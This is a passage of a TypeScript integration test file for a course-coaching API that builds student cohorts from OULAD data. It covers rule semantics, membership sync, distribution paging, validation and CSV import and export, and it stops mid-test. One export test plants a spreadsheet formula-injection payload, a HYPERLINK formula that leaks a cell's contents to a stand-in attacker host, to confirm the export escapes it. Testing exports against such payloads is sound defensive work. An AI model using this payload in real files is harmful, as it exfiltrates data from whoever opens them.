import {
  API,
  type Cohort,
  type CohortRule,
  CohortSchema,
  CohortUsersPageSchema,
  DictionaryDataSchema,
  ImportReportSchema,
  MembershipTaskSchema,
  TailoringDistributionSchema,
} from '@course-coach/contracts';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resumeInterruptedSyncs } from '../src/modules/tailoring/sync.ts';
import { markStarted } from '../src/modules/tailoring/sync-queries.ts';
import {
  type Browser,
  coachIdOf,
  getTestContext,
  insertOtherInstitution,
  instructorEmailOf,
  STAFF_EMAIL,
  studentEmailOf,
  TEST_PRESENTATIONS,
  type TestContext,
} from './helpers.ts';
import { readCsv } from './oulad-reference.ts';
import { type RefRule, TailoringReference } from './tailoring-reference.ts';

const ref = new TailoringReference(TEST_PRESENTATIONS);
const P = 'AAA-2013J';
const Q = 'DDD-2013B';

let ctx: TestContext;
let staff: Browser;
let coachA: number;
let coachD: number;
/** id_student of every user id of the demo institution. */
const studentOf = new Map<number, string>();

beforeAll(async () => {
  ctx = await getTestContext();
  staff = await ctx.signIn(STAFF_EMAIL);
  coachA = await coachIdOf(ctx, P);
  coachD = await coachIdOf(ctx, Q);
  const rows = await ctx.database.query<{ id: number; external_id: string }>(
    'select id, external_id from users where institution_id = $1 and external_id is not null',
    [ctx.institutionId],
  );
  for (const r of rows) studentOf.set(r.id, r.external_id);
});

/** Polls the membership update task until it is `success` (or fails the test after 30 s). */
async function waitForSync(coachId: number, cohortId: number, browser = staff) {
  const deadline = Date.now() + 30_000;
  for (;;) {
    const res = await browser.get(API.cohortMembershipUpdate(coachId, cohortId));
    expect(res.status).toBe(200);
    const task = MembershipTaskSchema.parse(res.body);
    if (task.state === 'success') return task;
    if (task.state === 'failure' || Date.now() > deadline) return task;
    await new Promise((r) => setTimeout(r, 50));
  }
}

async function getCohort(coachId: number, cohortId: number): Promise<Cohort> {
  const res = await staff.get(API.cohort(coachId, cohortId));
  expect(res.status).toBe(200);
  return CohortSchema.parse(res.body);
}

/** Creates a group with rules through the API and waits for its sync. */
async function createGroup(
  coachId: number,
  name: string,
  rules: RefRule[],
  extra: Record<string, unknown> = {},
) {
  const res = await staff.post(API.cohorts(coachId), { name, ...extra });
  expect(res.status, res.text).toBe(201);
  const cohort = CohortSchema.parse(res.body);
  for (const r of rules) {
    const rr = await staff.post(API.cohortRules(coachId, cohort.id), r);
    expect(rr.status, rr.text).toBe(201);
  }
  const task = await waitForSync(coachId, cohort.id);
  expect(task.state).toBe('success');
  return getCohort(coachId, cohort.id);
}

/** Every member's id_student, through the paged users endpoint. */
async function memberIds(coachId: number, cohortId: number): Promise<string[]> {
  const out: string[] = [];
  for (let page = 1; ; page++) {
    const res = await staff.get(`${API.cohortUsers(coachId, cohortId)}?page=${page}`);
    expect(res.status).toBe(200);
    const body = CohortUsersPageSchema.parse(res.body);
    for (const u of body.results) out.push(studentOf.get(u.id)!);
    if (body.next === null) break;
  }
  return out.sort();
}

const sorted = (a: string[]) => [...a].sort();

describe('tailoring dictionary', () => {
  it('lists the registrar and gradebook characteristics with their restriction sets, defaults and sources', async () => {
    const res = await staff.get(API.mtsDictionaryData(coachA));
    expect(res.status).toBe(200);
    const dict = DictionaryDataSchema.parse(res.body);
    const byName = new Map(dict.characteristics.map((c) => [c.name, c]));
    // OULAD's full value sets, not only those of the imported presentations.
    const info = readCsv('studentInfo.csv');
    for (const name of ['gender', 'region', 'highest_education', 'age_band', 'disability', 'final_result']) {
      const c = byName.get(name)!;
      expect(c.sources).toEqual(['registrar']);
      expect(c.is_multivalued).toBe(false);
      expect(sorted(c.restrictionset.values.map((v) => v.value))).toEqual(
        sorted([...new Set(info.map((r) => r[name]!))]),
      );
    }
    const imd = byName.get('imd_band')!;
    expect(imd.default).toBe('unknown');
    expect(sorted(imd.restrictionset.values.map((v) => v.value))).toEqual(
      sorted([...new Set(info.map((r) => r.imd_band!).filter((v) => v !== '?')), 'unknown']),
    );
    expect(byName.get('studied_credits')!.restrictionset.ranges).toEqual([{ min: 0, max: 700 }]);
    expect(byName.get('modules')!.is_multivalued).toBe(true);
    expect(byName.get('average_score_band')!.sources).toEqual(['gradebook']);
    expect(byName.get('assessments_submitted')!.default).toBe('0');
    expect(dict.sources.map((s) => s.name)).toEqual(expect.arrayContaining(['gradebook', 'registrar']));
    const registrar = dict.sourced_characteristics.find((s) => s.source === 'registrar')!;
    expect(registrar.characteristics).toEqual(
      expect.arrayContaining(['gender', 'modules', 'studied_credits']),
    );
  });

  it('enrollment-details counts the coach’s registrations', async () => {
    const res = await staff.get(API.enrollmentDetails(coachA));
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ enrollment_count: ref.populations.get(P)!.length });
  });
});

describe('rule semantics over the real OULAD values', () => {
  // Every operation on every characteristic kind: range (with and without default), set (with the
  // 'No Answer' default), multivalued set; membership is checked per rule (qualifying count) and for
  // the conjunction (members, listed one by one).
  const groups: Array<{ presentation: string; rules: RefRule[] }> = [
    {
      presentation: P,
      rules: [
        { characteristic: 'studied_credits', operation: 'greater than', value: '60' },
        { characteristic: 'gender', operation: 'equal to', value: 'F' },
        { characteristic: 'num_of_prev_attempts', operation: 'less than or equal to', value: '0' },
      ],
    },
    {
      presentation: P,
      rules: [
        { characteristic: 'studied_credits', operation: 'equal to', value: '60' },
        {
          characteristic: 'imd_band',
          operation: 'includes',
          values_for_include: ['unknown', '0-10%', '10-20'],
        },
      ],
    },
    {
      presentation: Q,
      rules: [
        { characteristic: 'assessments_submitted', operation: 'less than', value: '3' },
        {
          characteristic: 'average_score_band',
          operation: 'includes',
          values_for_include: ['__no_answer__', '0-39', '40-59'],
        },
      ],
    },
    {
      presentation: Q,
      rules: [
        { characteristic: 'studied_credits', operation: 'greater than or equal to', value: '120' },
        { characteristic: 'modules', operation: 'contains', values_for_include: ['AAA', 'CCC', 'GGG'] },
        { characteristic: 'assessments_submitted', operation: 'greater than', value: '4' },
      ],
    },
    {
      presentation: Q,
      rules: [
        { characteristic: 'imd_band', operation: 'equal to', value: 'unknown' },
        { characteristic: 'assessments_submitted', operation: 'equal to', value: '0' },
      ],
    },
    {
      presentation: 'CCC-2014B',
      rules: [
        { characteristic: 'studied_credits', operation: 'less than', value: '60' },
        {
          characteristic: 'region',
          operation: 'includes',
          values_for_include: ['Scotland', 'Wales', 'Ireland'],
        },
        { characteristic: 'final_result', operation: 'equal to', value: 'Withdrawn' },
      ],
    },
    {
      presentation: 'GGG-2013J',
      rules: [
        { characteristic: 'modules', operation: 'contains', values_for_include: ['GGG'] },
        { characteristic: 'disability', operation: 'equal to', value: 'Y' },
      ],
    },
  ];

  for (const [i, g] of groups.entries()) {
    it(`group ${i + 1} (${g.presentation}): ${g.rules.map((r) => `${r.characteristic} ${r.operation}`).join(' & ')}`, async () => {
      const coachId = await coachIdOf(ctx, g.presentation);
      const cohort = await createGroup(coachId, `Semantics ${i + 1}`, g.rules);
      expect(cohort.rules).toHaveLength(g.rules.length);
      for (const [j, r] of g.rules.entries()) {
        const expected = ref.qualifying(g.presentation, r).length;
        expect(cohort.rules[j]!.is_valid).toBe(true);
        expect(cohort.rules[j]!.qualifying_subjects_count, `${r.characteristic} ${r.operation}`).toBe(
          expected,
        );
      }
      const members = ref.members(g.presentation, g.rules);
      expect(cohort.membership_count).toBe(members.length);
      expect(await memberIds(coachId, cohort.id)).toEqual(sorted(members));
      // Sanity: the expectations are not trivial.
      expect(g.rules.some((r) => ref.qualifying(g.presentation, r).length > 0)).toBe(true);
    });
  }

  it('the demo Insight Groups have the members and qualifying counts of their rules', async () => {
    for (const [presentation, coachId] of [
      [P, coachA],
      [Q, coachD],
    ] as const) {
      const list = (await staff.get<Cohort[]>(API.cohorts(coachId))).body.filter(
        (c) => !c.name.startsWith('Semantics'),
      );
      expect(list.length).toBeGreaterThanOrEqual(4);
      for (const c of list) {
        const rules: RefRule[] = c.rules.map((r) => ({
          characteristic: r.characteristic,
          operation: r.operation,
          value: r.value ?? undefined,
          values_for_include: r.values_for_include,
        }));
        expect(c.membership_count, c.name).toBe(ref.members(presentation, rules).length);
        for (const r of c.rules) {
          const rr = rules[c.rules.indexOf(r)]!;
          expect(r.qualifying_subjects_count, `${c.name}: ${r.characteristic}`).toBe(
            ref.qualifying(presentation, rr).length,
          );
        }
      }
    }
  });

  it('ignores invalid rules (unknown characteristic, value left the restriction set) and lists them as invalid', async () => {
    const rules: RefRule[] = [{ characteristic: 'gender', operation: 'equal to', value: 'M' }];
    const cohort = await createGroup(coachA, 'With invalid rules', rules);
    // Rules made invalid by the dictionary (as when a characteristic is removed or its set narrowed).
    await ctx.database.query(
      `insert into cohort_rules (institution_id, cohort_id, characteristic, operation, value, values_for_include)
       values ($1, $2, 'no_such_characteristic', 'equal to', 'x', '{}'),
              ($1, $2, 'region', 'includes', null, '{Atlantis}')`,
      [ctx.institutionId, cohort.id],
    );
    await staff.post(API.cohortMembershipUpdate(coachA, cohort.id));
    expect((await waitForSync(coachA, cohort.id)).state).toBe('success');
    const after = await getCohort(coachA, cohort.id);
    expect(after.rules.map((r) => r.is_valid)).toEqual([true, false, false]);
    expect(after.rules.map((r) => r.qualifying_subjects_count).slice(1)).toEqual([0, 0]);
    expect(after.membership_count).toBe(ref.members(P, rules).length);

    // Only invalid rules: no members.
    await staff.request('DELETE', API.cohortRule(coachA, cohort.id, after.rules[0]!.id));
    expect((await waitForSync(coachA, cohort.id)).state).toBe('success');
    expect((await getCohort(coachA, cohort.id)).membership_count).toBe(0);
  });

  it('a group without rules has no members; editing and deleting a rule recomputes the membership', async () => {
    const cohort = await createGroup(coachA, 'Edited', []);
    expect(cohort.membership_count).toBe(0);
    const rule = { characteristic: 'age_band', operation: 'equal to', value: '0-35' };
    const created = await staff.post<CohortRule>(API.cohortRules(coachA, cohort.id), rule);
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({
      cohort_id: cohort.id,
      cohortId: cohort.id,
      value: '0-35',
      values_for_include: [],
    });
    await waitForSync(coachA, cohort.id);
    expect((await getCohort(coachA, cohort.id)).membership_count).toBe(ref.members(P, [rule]).length);
    // A whole re-sync that changes nothing writes no membership row (each row keeps the version the
    // first sync wrote).
    const versions = () =>
      ctx.database.query<{ user_id: number; v: string }>(
        'select user_id, xmin::text as v from cohort_memberships where cohort_id = $1 order by user_id',
        [cohort.id],
      );
    const written = await versions();
    expect(written.length).toBe(ref.members(P, [rule]).length);
    expect((await staff.post(API.cohortMembershipUpdate(coachA, cohort.id))).status).toBe(202);
    expect((await waitForSync(coachA, cohort.id)).state).toBe('success');
    expect(await versions()).toEqual(written);
    const edited = {
      characteristic: 'age_band',
      operation: 'includes',
      values_for_include: ['35-55', '55<='],
    };
    const put = await staff.request('PUT', API.cohortRule(coachA, cohort.id, created.body.id), {
      json: edited,
    });
    expect(put.status, put.text).toBe(200);
    await waitForSync(coachA, cohort.id);
    const after = await getCohort(coachA, cohort.id);
    expect(after.membership_count).toBe(ref.members(P, [edited]).length);
    expect(after.rules[0]).toMatchObject({
      operation: 'includes',
      value: null,
      values_for_include: ['35-55', '55<='],
    });
    const del = await staff.request('DELETE', API.cohortRule(coachA, cohort.id, created.body.id));
    expect(del.status).toBe(204);
    await waitForSync(coachA, cohort.id);
    expect((await getCohort(coachA, cohort.id)).membership_count).toBe(0);
  });
});

describe('membership characteristic, distribution, export', () => {
  it('writes a group’s membership back to the dictionary, usable in another group’s rules', async () => {
    const rules: RefRule[] = [
      { characteristic: 'highest_education', operation: 'equal to', value: 'HE Qualification' },
    ];
    const cohort = await createGroup(coachA, 'HE qualified', rules, {
      characteristic: 'he_qualified_aaa',
      source: '',
    });
    expect(cohort.characteristic).toBe('he_qualified_aaa');
    expect(cohort.source).toBe('course_coach');
    const members = ref.members(P, rules);
    const dict = DictionaryDataSchema.parse((await staff.get(API.mtsDictionaryData(coachA))).body);
    const c = dict.characteristics.find((x) => x.name === 'he_qualified_aaa')!;
    expect(c).toMatchObject({ sources: ['course_coach'], default: 'false', is_multivalued: false });
    const other = await createGroup(coachA, 'Not HE qualified', [
      { characteristic: 'he_qualified_aaa', operation: 'equal to', value: 'false' },
    ]);
    expect(other.membership_count).toBe(ref.populations.get(P)!.length - members.length);
    // The name is taken now: a third group may not claim it.
    const clash = await staff.post<Record<string, string[]>>(API.cohorts(coachA), {
      name: 'Clash',
      characteristic: 'he_qualified_aaa',
    });
    expect(clash.status).toBe(400);
    expect(clash.body.characteristic).toHaveLength(1);
  });

  it('distribution counts members and enrolled students per source__value, defaults under the bare value', async () => {
    const rules: RefRule[] = [
      { characteristic: 'studied_credits', operation: 'greater than or equal to', value: '90' },
    ];
    const cohort = await createGroup(coachD, 'Distribution', rules);
    const members = new Set(ref.members(Q, rules));
    for (const name of ['gender', 'imd_band', 'modules', 'average_score_band']) {
      const res = await staff.get(`${API.tailoringDistribution(coachD, cohort.id)}?characteristic=${name}`);
      expect(res.status, res.text).toBe(200);
      const body = TailoringDistributionSchema.parse(res.body);
      expect(body.enrollment_count).toBe(ref.populations.get(Q)!.length);
      expect(body.membership_count).toBe(members.size);
      const expected: Record<string, { current: number; group_total: number }> = {};
      for (const id of ref.populations.get(Q)!) {
        const own = ref.ownValues(id, name, Q);
        const source = name === 'average_score_band' ? 'gradebook' : 'registrar';
        const keys =
          own.length > 0
            ? own.map((v) => `${source}__${v}`)
            : ref.valuesOf(id, name, Q).length
              ? ref.valuesOf(id, name, Q)
              : [''];
        for (const k of keys) {
          const e = expected[k] ?? { current: 0, group_total: 0 };
          e.group_total++;
          if (members.has(id)) e.current++;
          expected[k] = e;
        }
      }
      expect(body.counts[name], name).toEqual(expected);
    }
    const unknown = await staff.get(`${API.tailoringDistribution(coachD, cohort.id)}?characteristic=nope`);
    expect(unknown.status).toBe(400);
    expect(unknown.body).toEqual({ characteristic: [expect.any(String)] });
  });

  it('distribution lists the members behind each source__value, paged, with the counts (spec §3)', async () => {
    const rules: RefRule[] = [
      { characteristic: 'studied_credits', operation: 'greater than or equal to', value: '120' },
    ];
    const cohort = await createGroup(coachD, 'Distribution lists', rules);
    const members = new Set(ref.members(Q, rules));
    expect(members.size).toBeGreaterThan(10);
    const userOf = new Map([...studentOf].map(([user, student]) => [student, user]));
    const url = (query: string) => `${API.tailoringDistribution(coachD, cohort.id)}?${query}`;
    for (const name of ['gender', 'imd_band', 'modules']) {
      // Expected from the OULAD reference: member id_students per key (no value → the default alone).
      const expected = new Map<string, Set<number>>();
      for (const id of members) {
        const own = ref.values.get(id)?.get(name) ?? [];
        const keys = own.length > 0 ? own.map((v) => `registrar__${v}`) : ref.valuesOf(id, name, Q);
        for (const k of keys.length ? keys : ['']) {
          const set = expected.get(k) ?? new Set<number>();
          set.add(userOf.get(id)!);
          expected.set(k, set);
        }
      }
      const pageSize = Math.max(2, Math.ceil(members.size / 4));
      const seen = new Map<string, number[]>();
      let page = 1;
      for (;;) {
        const res = await staff.get(url(`characteristic=${name}&page=${page}&page_size=${pageSize}`));
        expect(res.status, res.text).toBe(200);
        const body = TailoringDistributionSchema.parse(res.body);
        expect(body).toMatchObject({ page, page_size: pageSize, membership_count: members.size });
        expect(Object.keys(body.distribution[name]!).sort()).toEqual(Object.keys(body.counts[name]!).sort());
        let any = false;
        for (const [key, list] of Object.entries(body.distribution[name]!)) {
          const total = expected.get(key)?.size ?? 0;
          expect(body.counts[name]![key]!.current, `${name} ${key}`).toBe(total);
          expect(list.length).toBe(Math.max(0, Math.min(pageSize, total - (page - 1) * pageSize)));
          for (const u of list) expect(u.email).toBe(studentEmailOf(studentOf.get(u.id)!));
          seen.set(key, [...(seen.get(key) ?? []), ...list.map((u) => u.id)]);
          if (list.length > 0) any = true;
        }
        if (!any) break; // a page past every list: empty lists, counts kept
        page++;
      }
      expect(page).toBeGreaterThan(1);
      for (const [key, ids] of expected) {
        expect(new Set(seen.get(key)), `${name} ${key}`).toEqual(ids);
        expect(seen.get(key)!.length, 'no student twice').toBe(ids.size);
      }
    }
    // Without paging: the first 50 of each list; page_size=0: the counts alone.
    const all = TailoringDistributionSchema.parse((await staff.get(url('characteristic=gender'))).body);
    expect(all.page_size).toBe(50);
    const countsOnly = TailoringDistributionSchema.parse((await staff.get(url('page_size=0'))).body);
    expect(
      Object.values(countsOnly.distribution).every((m) => Object.values(m).every((l) => l.length === 0)),
    ).toBe(true);
    expect(countsOnly.counts.gender).toEqual(all.counts.gender);
    // A page past the end: 200 with empty lists and the totals.
    const far = TailoringDistributionSchema.parse(
      (await staff.get(url('characteristic=gender&page=9999'))).body,
    );
    expect(Object.values(far.distribution.gender!).flat()).toEqual([]);
    expect(far.counts.gender).toEqual(all.counts.gender);
    // Bad paging: 400 with a field error on that field.
    for (const [query, field] of [
      ['page=0', 'page'],
      ['page=x', 'page'],
      ['page_size=-1', 'page_size'],
      ['page_size=501', 'page_size'],
    ] as const) {
      const bad = await staff.get(url(query));
      expect(bad.status, query).toBe(400);
      expect(Object.keys(bad.body as object), query).toEqual([field]);
    }
  });

  it('lists each collection with its students: those in any of its groups, each once (spec §2)', async () => {
    const made = await staff.post<{ id: number }>(API.cohortGroups(coachA), { name: 'Counted collection' });
    expect(made.status).toBe(201);
    const a: RefRule[] = [{ characteristic: 'gender', operation: 'equal to', value: 'F' }];
    const b: RefRule[] = [{ characteristic: 'disability', operation: 'equal to', value: 'Y' }];
    await createGroup(coachA, 'Collection women', a, { cohort_group: made.body.id });
    await createGroup(coachA, 'Collection disability', b, { cohort_group: made.body.id });
    const union = new Set([...ref.members(P, a), ...ref.members(P, b)]);
    expect(union.size).toBeLessThan(ref.members(P, a).length + ref.members(P, b).length); // they overlap
    const res = await staff.get<Array<{ id: number; name: string; membership_count: number }>>(
      API.cohortGroups(coachA),
    );
    expect(res.status).toBe(200);
    expect(res.body.find((g) => g.id === made.body.id)).toEqual({
      id: made.body.id,
      name: 'Counted collection',
      membership_count: union.size,
    });
    const empty = await staff.post<{ id: number }>(API.cohortGroups(coachA), { name: 'Empty counted' });
    const again = await staff.get<Array<{ id: number; membership_count: number }>>(API.cohortGroups(coachA));
    expect(again.body.find((g) => g.id === empty.body.id)?.membership_count).toBe(0);
  });

  it('exports the members as CSV', async () => {
    const rules: RefRule[] = [{ characteristic: 'disability', operation: 'equal to', value: 'Y' }];
    const cohort = await createGroup(coachA, 'Export', rules);
    const res = await staff.get(API.cohortUsersCsv(coachA, cohort.id));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const rows = parse(res.text, { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => r.student_id).sort()).toEqual(sorted(ref.members(P, rules)));
    expect(rows[0]!.email).toBe(studentEmailOf(rows[0]!.student_id!));
  });

  it('exports names and ids that start like a formula as text, not as live formulas', async () => {
    const rules: RefRule[] = [{ characteristic: 'disability', operation: 'equal to', value: 'Y' }];
    const cohort = await createGroup(coachA, 'Export formulas', rules);
    const [a, b, c] = sorted(ref.members(P, rules));
    const evil: Array<[string, string, string]> = [
      [a!, '=HYPERLINK("http://evil.example/?leak="&A2,"Click")', '+1'],
      [b!, '@SUM(1+1)', '-2'],
      [c!, '\tTab', '\rCR'],
    ];
    const saved = await ctx.database.query<{ email: string; name: string; external_id: string | null }>(
      'select email, name, external_id from users where email = any($1::text[])',
      [evil.map(([id]) => studentEmailOf(id))],
    );
    try {
      for (const [id, name, externalId] of evil) {
        await ctx.database.query('update users set name = $2, external_id = $3 where email = $1', [
          studentEmailOf(id),
          name,
          externalId,
        ]);
      }
      const res = await staff.get(API.cohortUsersCsv(coachA, cohort.id));
      expect(res.status).toBe(200);
      const rows = parse(res.text, { columns: true }) as Array<Record<string, string>>;
      const byEmail = new Map(rows.map((r) => [r.email, r]));
      expect(byEmail.get(studentEmailOf(a!))).toMatchObject({
        name: `'=HYPERLINK("http://evil.example/?leak="&A2,"Click")`,
        student_id: "'+1",
      });
      expect(byEmail.get(studentEmailOf(b!))).toMatchObject({ name: "'@SUM(1+1)", student_id: "'-2" });
      expect(byEmail.get(studentEmailOf(c!))).toMatchObject({ name: "'\tTab", student_id: "'\rCR" });
      // No cell of the file starts with a formula character.
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    } finally {
      for (const row of saved)
        await ctx.database.query('update users set name = $2, external_id = $3 where email = $1', [
          row.email,
          row.name,
          row.external_id,
        ]);
    }
  });
});

describe('validation', () => {
  let cohortId: number;
  beforeAll(async () => {
    cohortId = (await createGroup(coachA, 'Validation target', [])).id;
  });
  const count = async () =>
    (
      await ctx.database.query<{ n: number }>(
        'select count(*)::int as n from cohort_rules where cohort_id = $1',
        [cohortId],
      )
    )[0]!.n;

  const cases: Array<[string, Record<string, unknown>, Record<string, unknown>]> = [
    [
      'missing everything',
      {},
      { characteristic: ['This field is required.'], operation: ['This field is required.'] },
    ],
    [
      'unknown characteristic',
      { characteristic: 'shoe_size', operation: 'equal to', value: '9' },
      { characteristic: ['“shoe_size” is not a characteristic in the tailoring dictionary.'] },
    ],
    [
      'operation not allowed for a range',
      { characteristic: 'studied_credits', operation: 'includes', values_for_include: ['60'] },
      { operation: [expect.stringContaining('cannot be used with Studied credits')] },
    ],
    [
      'operation not allowed for a multivalued set',
      { characteristic: 'modules', operation: 'equal to', value: 'AAA' },
      { operation: [expect.stringContaining('contains')] },
    ],
    [
      'comparison on a set',
      { characteristic: 'gender', operation: 'greater than', value: 'F' },
      { operation: [expect.any(String)] },
    ],
    [
      'number outside the range',
      { characteristic: 'studied_credits', operation: 'greater than', value: 9999 },
      { value: ['Enter a number from 0 to 700.'] },
    ],
    [
      'not a number',
      { characteristic: 'num_of_prev_attempts', operation: 'equal to', value: 'two' },
      { value: ['Enter a number.'] },
    ],
    // Number() would read these as 16, 1000, 2 and 0: only plain decimal numbers are numbers.
    ...['0x10', '1e3', '0b10', 'Infinity'].map(
      (value): [string, Record<string, unknown>, Record<string, unknown>] => [
        `not a decimal number (${value})`,
        { characteristic: 'studied_credits', operation: 'greater than', value },
        { value: ['Enter a number.'] },
      ],
    ),
    [
      'value outside the restriction set',
      { characteristic: 'gender', operation: 'equal to', value: 'X' },
      { value: ['“X” is not an allowed value of Gender.'] },
    ],
    [
      'includes without values',
      { characteristic: 'region', operation: 'includes', values_for_include: [] },
      { values_for_include: ['Select at least one value.'] },
    ],
    [
      'includes a value outside the set',
      { characteristic: 'region', operation: 'includes', values_for_include: ['Scotland', 'Mars'] },
      { values_for_include: ['“Mars” is not an allowed value of Region.'] },
    ],
    [
      'missing value',
      { characteristic: 'gender', operation: 'equal to' },
      { value: ['This field is required.'] },
    ],
    [
      'unknown operation',
      { characteristic: 'gender', operation: 'like', value: 'F' },
      { operation: ['“like” is not a valid choice.'] },
    ],
  ];
  for (const [name, body, expected] of cases) {
    it(`refuses a rule: ${name}`, async () => {
      const before = await count();
      const res = await staff.post(API.cohortRules(coachA, cohortId), body);
      expect(res.status, res.text).toBe(400);
      expect(res.body).toMatchObject({ ...expected, non_field_errors: [expect.any(String)] });
      expect(await count()).toBe(before);
      const put = await staff.request('PUT', API.cohortRule(coachA, cohortId, 2_000_000_000), { json: body });
      expect(put.status).toBe(404);
    });
  }

  it('refuses group and collection forms with field errors; trims names', async () => {
    for (const name of ['', '   ']) {
      const res = await staff.post(API.cohorts(coachA), { name });
      expect(res.status).toBe(400);
      expect(res.body).toEqual({ name: ['This field is required.'] });
      const g = await staff.post(API.cohortGroups(coachA), { name });
      expect(g.status).toBe(400);
      expect(g.body).toEqual({ name: ['This field is required.'] });
    }
    const bad = await staff.post(API.cohorts(coachA), { name: 'x', cohort_group: 2_000_000_000 });
    expect(bad.body).toEqual({ cohort_group: ['Select a valid collection.'] });
    const badName = await staff.post(API.cohorts(coachA), { name: 'x', characteristic: 'has space' });
    expect(badName.body).toEqual({ characteristic: [expect.any(String)] });
    const group = await staff.post<{ id: number; name: string }>(API.cohortGroups(coachA), {
      name: '  Trimmed collection  ',
    });
    expect(group.status).toBe(201);
    expect(group.body.name).toBe('Trimmed collection');
    const cohort = await staff.post<Cohort>(API.cohorts(coachA), {
      name: '  Trimmed group ',
      cohort_group: group.body.id,
    });
    expect(cohort.status).toBe(201);
    expect(cohort.body).toMatchObject({ name: 'Trimmed group', cohort_group: group.body.id });
    const dup = await staff.post(API.cohorts(coachA), { name: 'trimmed GROUP' });
    expect(dup.status).toBe(400);
    expect(dup.body).toEqual({ non_field_errors: [expect.any(String)] });
    // Deleting the collection keeps its group, outside any collection.
    expect((await staff.request('DELETE', API.cohortGroup(coachA, group.body.id))).status).toBe(204);
    expect((await getCohort(coachA, cohort.body.id)).cohort_group).toBeNull();
    expect((await staff.request('DELETE', API.cohort(coachA, cohort.body.id))).status).toBe(204);
    expect((await staff.get(API.cohort(coachA, cohort.body.id))).status).toBe(404);
  });
});

describe('membership sync job', () => {
  it('goes started → success with date_done; a failing sync is visible and writes nothing', async () => {
    const rules: RefRule[] = [{ characteristic: 'final_result', operation: 'equal to', value: 'Pass' }];
    const cohort = await createGroup(coachA, 'Sync states', rules, { characteristic: 'sync_states_aaa' });
    const before = await waitForSync(coachA, cohort.id);
    expect(before.success!.date_done >= before.started!.date_done).toBe(true);
    const members = ref.members(P, rules).length;
    expect(cohort.membership_count).toBe(members);

    // A database failure in the middle of the sync (after the members are inserted).
    await ctx.database.query(`create or replace function cc_test_fail() returns trigger language plpgsql as $$
      begin raise exception 'simulated failure while writing members'; end $$`);
    await ctx.database.query(
      'create trigger cc_test_fail after insert on cohort_memberships for each statement execute function cc_test_fail()',
    );
    try {
      // Change the rule so a successful sync would change the membership.
      const rule = cohort.rules[0]!;
      const put = await staff.request('PUT', API.cohortRule(coachA, cohort.id, rule.id), {
        json: { characteristic: 'final_result', operation: 'equal to', value: 'Fail' },
      });
      expect(put.status).toBe(200);
      const failed = await waitForSync(coachA, cohort.id);
      expect(failed.state).toBe('failure');
      expect(failed.failure!.message).toContain('simulated failure');
      const after = await getCohort(coachA, cohort.id);
      expect(after.membership_count).toBe(members);
      expect(after.rules[0]!.qualifying_subjects_count).toBe(members);
      const [m] = await ctx.database.query<{ n: number }>(
        'select count(*)::int as n from cohort_memberships where cohort_id = $1',
        [cohort.id],
      );
      expect(m?.n).toBe(members);
      const [written] = await ctx.database.query<{ v: number }>(
        `select count(*)::int as v from student_characteristic_values v join characteristics c on c.id = v.characteristic_id
          where c.name = 'sync_states_aaa'`,
      );
      expect(written?.v).toBe(members);
    } finally {
      await ctx.database.query('drop trigger cc_test_fail on cohort_memberships');
      await ctx.database.query('drop function cc_test_fail()');
    }
    const again = await staff.post(API.cohortMembershipUpdate(coachA, cohort.id));
    expect(again.status).toBe(202);
    expect(MembershipTaskSchema.parse(again.body).state).toBe('started');
    const done = await waitForSync(coachA, cohort.id);
    expect(done.state).toBe('success');
    expect((await getCohort(coachA, cohort.id)).membership_count).toBe(
      ref.members(P, [{ characteristic: 'final_result', operation: 'equal to', value: 'Fail' }]).length,
    );
  });

  it('a sync left started by a worker that died is resumed when workers start', async () => {
    const rules: RefRule[] = [{ characteristic: 'age_band', operation: 'equal to', value: '35-55' }];
    const cohort = await createGroup(coachA, 'Resumed', []);
    // The state a crash leaves: rules changed, task marked started, no sync running, nothing queued.
    await ctx.database.query(
      `insert into cohort_rules (institution_id, cohort_id, characteristic, operation, value) values ($1, $2, 'age_band', 'equal to', '35-55')`,
      [ctx.institutionId, cohort.id],
    );
    expect(await markStarted(ctx.database.query, cohort.id)).toBe(true);
    expect((await getCohort(coachA, cohort.id)).membership_count).toBe(0);
    const resumed = await resumeInterruptedSyncs({ database: ctx.database, boss: null });
    expect(resumed).toContain(cohort.id);
    expect((await waitForSync(coachA, cohort.id)).state).toBe('success');
    expect((await getCohort(coachA, cohort.id)).membership_count).toBe(ref.members(P, rules).length);
  });

  it.runIf(!!process.env.DATABASE_URL)(
    'a second trigger while started does nothing (PostgreSQL)',
    async () => {
      const cohort = await createGroup(coachA, 'Held sync', [
        { characteristic: 'gender', operation: 'equal to', value: 'F' },
      ]);
      // Hold the sync's advisory lock from another connection, as a long-running sync would.
      const client = await ctx.database.pool!.connect();
      try {
        await client.query('select pg_advisory_lock(72620004, $1)', [cohort.id]);
        const first = await staff.post(API.cohortMembershipUpdate(coachA, cohort.id));
        expect(first.status).toBe(202);
        const started = MembershipTaskSchema.parse(first.body);
        expect(started.state).toBe('started');
        const second = await staff.post(API.cohortMembershipUpdate(coachA, cohort.id));
        expect(second.status).toBe(200);
        expect(MembershipTaskSchema.parse(second.body).started).toEqual(started.started);
        const status = MembershipTaskSchema.parse(
          (await staff.get(API.cohortMembershipUpdate(coachA, cohort.id))).body,
        );
        expect(status.state).toBe('started');
      } finally {
        await client.query('select pg_advisory_unlock(72620004, $1)', [cohort.id]);
        client.release();
      }
      const done = await waitForSync(coachA, cohort.id);
      expect(done.state).toBe('success');
    },
  );
});

describe('CSV import', () => {
  const idsOf = (presentation: string) => ref.populations.get(presentation)!;
  it('dry run reports every bad row and writes nothing; a real import with a bad row is refused whole', async () => {
    const [a, b] = idsOf(P);
    const csv = [
      'student,gender,studied_credits,modules',
      `${a},F,120,AAA;DDD`,
      `${b},X,abc,ZZZ`,
      '99999999,M,60,AAA',
      `${studentEmailOf(b!)},M,9999,`,
    ].join('\n');
    const snapshot = async () =>
      (
        await ctx.database.query<{ n: number }>(
          'select count(*)::int as n from student_characteristic_values',
        )
      )[0]!.n;
    const before = await snapshot();
    const dry = await staff.request('POST', `${API.mtsImport(coachA)}?source=registrar&dry_run=true`, {
      body: csv,
      contentType: 'text/csv',
    });
    expect(dry.status, dry.text).toBe(200);
    const report = ImportReportSchema.parse(dry.body);
    expect(report.rows_total).toBe(4);
    expect(report.errors).toEqual([
